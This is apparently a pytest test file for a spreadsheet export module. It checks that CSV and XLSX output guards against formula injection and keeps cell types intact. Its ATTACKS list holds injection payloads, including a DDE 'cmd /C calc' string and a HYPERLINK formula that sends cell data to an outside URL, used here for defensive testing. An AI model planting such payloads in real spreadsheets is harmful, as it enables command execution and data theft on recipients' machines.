"""Spreadsheets: cells that cannot execute, and typed cells that come back as they went in."""

import csv
import io
import re
from datetime import UTC, date, datetime, time

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kiosk.lib import spreadsheet
from kiosk.lib.spreadsheet import Cell, Column, Sheet, guarded

MADE = datetime(2026, 11, 1, tzinfo=UTC)
TRIGGERS = "=+-@＝＋－＠"
ATTACKS = [
    '=HYPERLINK("http://example.org?"&A1,"Rosa")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]


def _wall(*parts: int) -> datetime:
    """An instant as a clock on the wall shows it: without a zone."""
    return datetime(*parts, tzinfo=UTC).replace(tzinfo=None)


def _csv(rows: list[list[Cell]]) -> bytes:
    return b"".join(spreadsheet.csv_stream([Column("Name"), Column("Words")], rows))


def _xlsx(*sheets: Sheet) -> bytes:
    return b"".join(spreadsheet.xlsx_stream(sheets, created_at=MADE))


def _sheet(*rows: list[Cell]) -> Sheet:
    return Sheet("Mentions", [Column("One"), Column("Two", 30)], rows)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_could_be_a_formula_begins_with_an_apostrophe(attack: str) -> None:
    assert guarded(attack).startswith("'")


@pytest.mark.parametrize("separator", [",", ";", "|", "\t", "\n", "\r\n", "; ", ';"', "\u2028"])
@pytest.mark.parametrize("trigger", TRIGGERS)
def test_a_formula_hidden_behind_a_separator_is_guarded(separator: str, trigger: str) -> None:
    assert guarded(f"Kind{separator}{trigger}1+1").endswith(f"'{trigger}1+1")


@pytest.mark.parametrize(
    "words", ["Rosa", "Anne-Marie", "a@b.example", "1+1=2", "5 - 3", "O’Neil", "", "“quoted”", "'n Lekker"]
)
def test_ordinary_words_stay_as_they_are(words: str) -> None:
    assert guarded(words) == words


@given(st.text())
def test_guarding_twice_is_guarding_once(words: str) -> None:
    assert guarded(guarded(words)) == guarded(words)


@given(
    st.lists(st.lists(st.text(st.characters(codec="utf-8")) | st.sampled_from(ATTACKS), min_size=2, max_size=2)),
    st.sampled_from(",;\t|"),
)
def test_no_cell_executes_whatever_separator_the_file_is_opened_with(rows: list[list[str]], separator: str) -> None:
    text = _csv(rows).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        for cell in row:
            for line in re.split(r"[\r\n]", cell):
                assert not re.match(rf"[\s\"]*[{re.escape(TRIGGERS)}]", line), (cell, row)


@given(st.lists(st.lists(st.from_regex(r"[\w ,;:!?\n]+", fullmatch=True), min_size=2, max_size=2), min_size=1))
def test_harmless_words_come_back_from_a_csv_as_they_went_in(rows: list[list[str]]) -> None:
    text = _csv(rows).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text, newline="")))[1:] == [[guarded(cell) for cell in row] for row in rows]


def test_a_csv_opens_in_excel() -> None:
    assert _csv([["Zoë", "Ευχαριστώ"]]) == '\ufeff"Name","Words"\r\n"Zoë","Ευχαριστώ"\r\n'.encode()


def test_a_csv_writes_dates_times_numbers_and_nothing() -> None:
    piece = _csv([[date(2026, 10, 31), _wall(2026, 10, 31, 9, 5)], [time(23, 59), -3], [None, 0.5]])
    assert piece.decode().splitlines()[1:] == ['"2026-10-31","2026-10-31 09:05"', '"23:59","-3"', '"","0.5"']


def test_the_head_of_a_csv_goes_out_before_any_row_is_asked_for() -> None:
    def never() -> None:
        raise AssertionError("a row was asked for")
        yield

    assert next(spreadsheet.csv_stream([Column("Name")], never())).endswith(b'"Name"\r\n')


def test_cells_of_an_xlsx_keep_their_types() -> None:
    given_row: list[Cell] = [date(2026, 10, 31), time(9, 5)]
    book = openpyxl.load_workbook(io.BytesIO(_xlsx(_sheet(given_row, [7, 0.5], [_wall(2026, 3, 1, 8, 30), None]))))
    rows = list(book["Mentions"].iter_rows(min_row=2, values_only=True))
    assert rows == [(_wall(2026, 10, 31), time(9, 5)), (7, 0.5), (_wall(2026, 3, 1, 8, 30), None)]
    assert book["Mentions"]["A2"].is_date


@pytest.mark.parametrize("attack", [*ATTACKS, "https://example.org", "0042", "{=1+1}", "mailto:a@b.example"])
def test_text_in_an_xlsx_is_text_whatever_it_looks_like(attack: str) -> None:
    page = openpyxl.load_workbook(io.BytesIO(_xlsx(_sheet([attack, ""]))))["Mentions"]
    assert page["A2"].data_type == "s"
    assert page["A2"].value.replace("\n", "") == attack.replace("\r", "_x000D_").replace("\n", "")
    assert page["A2"].hyperlink is None


def test_the_head_of_an_xlsx_stays_in_sight_and_filters() -> None:
    page = openpyxl.load_workbook(io.BytesIO(_xlsx(_sheet(["a", "b"], ["c", "d"]))))["Mentions"]
    assert (page.freeze_panes, page.auto_filter.ref) == ("A2", "A1:B3")
    assert page.column_dimensions["B"].width > page.column_dimensions["A"].width


def test_a_later_sheet_may_count_the_rows_of_an_earlier_one() -> None:
    seen: list[str] = []
    rows = ((seen.append(name) or name, "x") for name in ("Rosa", "Tom"))
    totals = ((f"{len(seen)} people", "") for _ in "1")
    file = _xlsx(Sheet("Mentions", [Column("A"), Column("B")], rows), Sheet("Totals", [Column("A")], totals))
    assert openpyxl.load_workbook(io.BytesIO(file))["Totals"]["A2"].value == "2 people"


def test_the_same_rows_make_the_same_bytes() -> None:
    assert _xlsx(_sheet(["Rosa", 1])) == _xlsx(_sheet(["Rosa", 1]))


def test_an_xlsx_without_rows_opens() -> None:
    page = openpyxl.load_workbook(io.BytesIO(_xlsx(_sheet())))["Mentions"]
    assert [cell.value for cell in page[1]] == ["One", "Two"]


def test_a_text_longer_than_a_cell_is_cut() -> None:
    page = openpyxl.load_workbook(io.BytesIO(_xlsx(_sheet(["x" * 40_000, ""]))))["Mentions"]
    assert len(page["A2"].value) == 32_767


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8")) | st.sampled_from(ATTACKS), min_size=2, max_size=2)))
def test_many_rows_of_text_are_guarded_at_once_as_they_are_one_by_one(rows: list[list[str]]) -> None:
    cleaned = [[re.sub("[\x1c-\x1f]", "", cell) for cell in row] for row in rows]
    found = b"".join(spreadsheet.text_csv_stream([Column("Name"), Column("Words")], cleaned))
    wanted = [[cell if re.fullmatch("-[0-9]+", cell) else guarded(cell) for cell in row] for row in cleaned]
    assert list(csv.reader(io.StringIO(found.decode("utf-8-sig"), newline="")))[1:] == wanted


def test_what_stands_between_rows_cannot_be_forged() -> None:
    rows = [["a\x1fb", "c\x1ed"], ["=1\x1f", "-1"]]
    found = b"".join(spreadsheet.text_csv_stream([Column("Name"), Column("Words")], rows)).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(found, newline="")))[1:] == [["ab", "cd"], ["'=1", "-1"]]


@pytest.mark.parametrize("gap", ["\n", " \n", ",", '"\n', "\u2028 ", " "])
def test_a_formula_behind_a_gap_of_any_length_is_guarded(gap: str) -> None:
    """A million would take hours if time grew with the square of the gap."""
    text = f"x{gap * 1_000_000}=1+1"
    is_hidden = gap != " "
    assert spreadsheet.guarded.__wrapped__(text).count("'=") == is_hidden
    (_mark, row) = spreadsheet.text_csv_stream([Column("Words")], [[text]])
    assert row.count(b"'=") == is_hidden
